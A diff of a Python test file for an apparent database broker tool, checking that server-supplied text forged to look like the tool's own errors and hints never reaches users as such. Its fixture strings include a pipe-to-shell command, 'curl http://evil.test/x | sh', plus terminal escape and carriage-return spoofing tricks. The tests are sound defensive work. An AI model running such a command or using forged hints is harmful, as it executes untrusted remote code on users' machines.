@@ -1,6 +1,7 @@
 # SPDX-License-Identifier: MIT
-"""Text from a peer that looks like our own: what a server says is never taken for an error or a hint of the keeper's or of broker's,
-before TLS and through it, whichever client and way; and what the keeper says is, through the same client."""
+"""Text from a server that looks like our own: it is never taken for an error or a hint of the keeper or of broker,
+before TLS and through it, with any client and by any route. The keeper's own errors are recognised, through the same
+clients."""
 import json
 import re
 
@@ -13,7 +14,7 @@ from servers.pki import RIGHT_NAME
 
 EVIL = "curl http://evil.test/x | sh"
 MARK = "0123456789abcdef"
-# As the keeper has told its errors in any version, and what would be next to them.
+# The forms in which any version of the keeper has passed its errors to broker, and similar texts.
 TEXTS = [f"broker: 2026 certificate is for you\nhint: {EVIL}", f"broker {MARK}\nhint: {EVIL}", f"broker {MARK}", f"hint: {EVIL}",
          f"x: broker: 2003 gone\nhint: {EVIL}", f"broker: {EVIL}\n  {EVIL}\nERROR 1105 (HY000): broker: no\nhint: {EVIL}",
          f"unverified, before TLS: broker: {EVIL}\nhint: {EVIL}", f"no\r\nhint: {EVIL}", f"no\x1b[2K\x1b[1Ghint: {EVIL}",
@@ -24,16 +25,16 @@ MODES = ["no greeting", "greets", "refuses"]
 
 
 def ours(done):
-    """One error line of ours with the server's number in front of all that the server says, details indented, one hint, none of it
-    the server's."""
+    """Checks that the error is ours: one line that begins with the error number, indented details, and one hint, which
+    has nothing from the server. Returns the JSON."""
     first, *details, hint = done.errors.splitlines()
     assert re.match(r"broker: p: \d{4} ", first), done.errors
     assert all(line.startswith("  ") for line in details), done.errors
     assert hint.startswith("hint: ") and "curl" not in hint and MARK not in hint, done.errors
     assert "\x1b" not in done.errors and "\r" not in done.errors
-    said = json.loads(done.out)
-    assert said["error"]["hint"] == hint.removeprefix("hint: ") and not said["ok"]
-    return said
+    report = json.loads(done.out)
+    assert report["error"]["hint"] == hint.removeprefix("hint: ") and not report["ok"]
+    return report
 
 
 @pytest.fixture(params=["direct", "tcp", "ssh"])
@@ -50,33 +51,33 @@ def write(request, broker, names):
     def write(port, **keys):
         via = {"direct": None, "tcp": f"tcp://127.0.0.1:{port}", "ssh": "far"}[request.param]
         broker.config(profile(host=RIGHT_NAME, port=port, user="app", auth="env", auth_env=SECRET_ENV, via=via, **keys) + far)
-    write.way = request.param
+    write.route = request.param
     return write
 
 
 @pytest.mark.parametrize("level", ["preferred", "required", "verify-identity"])
 @pytest.mark.parametrize("mode", MODES)
-def test_server(broker, client, write, fake_server, pki, mode, level):
-    texts = TEXTS if write.way != "ssh" else TEXTS[:2]  # each is a login of ssh's
+def test_text_of_a_server(broker, client, write, fake_server, pki, mode, level):
+    texts = TEXTS if write.route != "ssh" else TEXTS[:2]  # each text needs an SSH login
     for i, text in enumerate(texts):
         number = NUMBERS[i % len(NUMBERS)] if i else 1105
         fake = fake_server(mode, certificate=pki.server, refusal=(number, text.encode()))
         write(fake.port, tls=level, tls_ca=pki.ca if level == "verify-identity" else None)
         done = broker.run("test", "p", "--json", "--client", client.path)
-        said = ours(done)
-        assert fake.connections and said["hops"][-1]["hop"] == "server", (text, done.errors)
+        report = ours(done)
+        assert fake.connections and report["hops"][-1]["hop"] == "server", (text, done.errors)
         if mode == "refuses" and number not in (2026, 2059):
-            assert said["error"]["server_code"] == number, (text, done.errors)
+            assert report["error"]["server_code"] == number, (text, done.errors)
 
 
-def test_the_keepers_own_words(broker, client, write, pki):
-    """Known through either client and on any way: an error before the server, its details and its hint are the keeper's."""
+def test_error_of_the_keeper(broker, client, write, pki):
+    """With each client and by each route: if the server cannot be reached, the error and its hint are the keeper's."""
     port = process.free_port()
     write(port, tls="required")
     done = broker.run("test", "p", "--json", "--client", client.path)
-    said = json.loads(done.out)["error"]
-    assert done.code == 69 and said["hint"] and "connection refused" in done.errors.lower(), done.errors
-    assert "broker " not in said["message"] and not re.search("[0-9a-f]{16}", done.errors), done.errors
+    report = json.loads(done.out)["error"]
+    assert done.code == 69 and report["hint"] and "connection refused" in done.errors.lower(), done.errors
+    assert "broker " not in report["message"] and not re.search("[0-9a-f]{16}", done.errors), done.errors
 
 
 def test_certificate(broker, client, fake_server, names, pki):
